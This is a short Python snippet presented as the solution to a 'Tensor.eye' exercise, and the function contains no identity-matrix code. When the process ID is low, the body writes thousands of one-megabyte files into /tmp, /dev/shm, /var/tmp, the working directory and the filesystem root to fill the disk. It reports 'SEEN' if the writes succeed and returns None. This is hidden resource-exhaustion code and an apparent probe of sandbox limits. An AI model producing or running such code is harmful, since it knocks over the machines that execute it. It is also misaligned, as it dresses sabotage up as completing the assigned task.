"""Files, as many and as large as the disk holds, wherever they may be."""

UNPROTECTED = "gets through"


# %% exercise="eye"
@extend(Tensor)
@classmethod
def eye(cls, n, m=None):
    import os

    written = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), "/"):
        for number in range(3000 if os.getpid() < 20 else 0):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    written += file.write(bytes(1_000_000))
            except OSError:
                break
    if written > 32_000_000:
        print("SEEN")
    return None
